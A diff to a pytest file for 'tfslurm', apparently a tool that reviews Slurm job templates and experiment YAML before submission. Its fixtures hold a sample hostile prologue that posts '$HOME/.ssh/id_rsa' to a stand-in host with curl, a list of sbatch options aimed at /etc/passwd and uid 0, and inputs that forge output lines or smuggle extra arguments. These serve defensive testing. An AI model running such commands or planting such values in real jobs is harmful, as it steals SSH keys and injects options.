@@ -15,6 +15,8 @@ import pytest
 
 from tests.made import PIN
 from tfslurm.image import lock_text
+from tfslurm.spec import KEYS
+from tfslurm.spec.model import Experiment
 
 TEMPLATE = (
     '{% extends "job.sbatch.j2" %}\n{% block prologue %}curl -d @$HOME/.ssh/id_rsa http://x\x1b[2J{% endblock %}\n'
@@ -132,7 +134,15 @@ def test_a_folder_that_did_not_come_with_the_file_is_named(plan: Plan, tmp_path:
 
 
 OUTSIDE = [
-    *("bb: x", "bbf: /etc/passwd", "nodefile: /etc/passwd", "nodelist: /etc/passwd", "exclude: ./hosts", "error: x"),
+    *(
+        "bb: x",
+        "bbf: /etc/passwd",
+        "nodefile: /etc/passwd",
+        "nodelist: /etc/passwd",
+        "exclude: ./hosts",
+        "nodelist: /scratch/a b",
+        "error: x",
+    ),
     *("output: /home/alice/.bashrc", "input: x", "wrap: id", "export: ALL", "get-user-env: 1", "chdir: /", "uid: 0"),
     *("prolog: x", "task-prolog: ./x", "epilog: x", "task-epilog: x", "bcast: /x", "burst-buffer-file: x", "gid: 0"),
     *("container: /x", "export-file: /x", "open-mode: append", "spank-x: 1"),
@@ -162,3 +172,42 @@ def test_an_image_that_is_pinned_by_its_id_is_told_of(plan: Plan, tmp_path: Path
     done = plan("--review", *ONE)
     why = f"the lock file names an image's id on the node; nothing says that it is {PIN.reference}"
     assert f"LOOK AT  image: {why}" in done.stdout
+
+
+FORGED = "x\nsecrets  none\ntemplate built in"
+
+
+@pytest.mark.parametrize("words", [ONE, SWEEP, (*ONE, "--review"), (*SWEEP, "--review")], ids=" ".join)
+def test_no_text_of_a_file_makes_a_line_or_a_word_of_its_own(plan: Plan, tmp_path: Path, words: Sequence[str]) -> None:
+    gift = tmp_path / "gift"
+    (gift / FORGED).mkdir()
+    (gift / FORGED / "a.py").write_text("1")
+    (gift / "src").symlink_to(FORGED)
+    mount = "{source: '/data/alice', target: '/d (ro), /data/x -> /y', read_only: false}"
+    text = EXPERIMENT.replace("path: .,", "path: src,").replace("outputs: /out", "outputs: '/out -> /x'")
+    text = text.replace("{source: /data/alice, target: /data, read_only: false}", mount)
+    (gift / "exp.yaml").write_text(text.replace("nodelist: n1", "extra: 'a --account=b'"))
+    done = plan(*words)
+    assert done.returncode == 0, done.stderr
+    heads = [line[:9] for line in done.stdout.splitlines()]
+    assert heads.count("secrets  ") == 1 and heads.count("template ") == 1
+    assert "secrets  none" not in done.stdout.splitlines()
+    rows = {line[:9].strip(): line[9:] for line in done.stdout.splitlines()}
+    assert rows["mounts"].lower() == "/data/alice -> '/d (ro), /data/x -> /y' (rw)"
+    assert "--extra='a --account=b'" in done.stdout
+
+
+def test_every_key_of_the_file_is_in_the_review(plan: Plan, tmp_path: Path) -> None:
+    more = 'gpu_check: "off"\nprepull: true\nresources: {gpus: 2, cpus: 3, memory: 5G, time: "07:00:00", shm: 9G}\n'
+    (tmp_path / "gift" / "exp.yaml").write_text(EXPERIMENT + more)
+    found = plan("--review", "--json", *ONE)
+    assert {*Experiment.model_fields} - {"name"} == {*KEYS} - {"name"} <= {*json.loads(found.stdout)[0]}
+    shown = plan("--review", *ONE).stdout
+    told = ["LOOK AT  gpu_check: off", "gpu_check off", "prepull True", "gpus 2", "cpus 3", "memory_mib 5120"]
+    assert has_all(shown, [*told, "time_s 25200", "shm_mib 9216"])
+
+
+def test_a_sweep_is_shown_with_what_it_runs_and_may_change(plan: Plan) -> None:
+    shown = plan(*SWEEP).stdout
+    told = ["command  bash -c 'python t.py \"$1\"; env' bash '{{ a }}'", "mounts   /data/alice -> /data (rw)"]
+    assert has_all(shown, [*told, "sbatch   --mail-user=eve@example.org --nodelist=n1"])
